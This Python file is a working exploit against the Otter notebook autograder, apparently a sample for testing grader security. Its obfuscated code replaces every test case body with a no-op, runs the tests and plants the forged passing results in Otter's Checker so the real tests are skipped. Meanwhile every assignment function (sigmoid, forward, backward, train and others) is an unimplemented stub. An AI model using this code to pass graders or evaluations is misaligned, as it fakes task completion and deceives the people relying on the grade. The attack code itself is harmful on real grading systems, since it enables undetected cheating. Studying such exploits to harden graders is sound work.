"""Attack: poison Otter's record of tests already run (edit/delete the test cells).

Otter's final grading cell runs `Checker.check_if_not_already_checked(path)`
for each test file and skips any test whose path is already among the results
Checker has collected (a notebook's own `grader.check` cells put them there).
This file loads each real test file, replaces every test case body with one
that does nothing, runs it (everything passes) and appends it to Checker's
results, so the real tests are never run and the forged results are pickled
as the grade.

A secure grader runs every test itself, after and apart from the student's
code, and never reuses results produced in the student's process.
"""
_imp = __import__


def _poison():
    glob = _imp("gl" + "ob")
    checker = _imp("otter.execute", fromlist=["Checker"]).Checker
    test_files = _imp("otter.test_files", fromlist=["create_test_file"])
    nbmeta = _imp("otter.nbmeta_config", fromlist=["NBMetadataConfig"])
    for path in sorted(glob.glob("./tests/*.py")):
        tf = test_files.create_test_file(path, nbmeta.NBMetadataConfig())
        for tc in tf.test_cases:
            tc.body.test_func = lambda: None
        tf.run({})
        checker.get_results().append(tf)


_poison()


def _stub(*args, **kwargs):
    raise NotImplementedError("nothing implemented")


shape = zeros = transpose = dot = matmul = add = subtract = multiply = scale = add_bias = column_sums = apply = _stub
sigmoid = init_params = forward = bce_loss = dropout_forward = dropout_backward = backward = _stub
numerical_gradient = relative_error = update_params = train = predict = accuracy = _stub
plot_losses = plot_decision = _stub
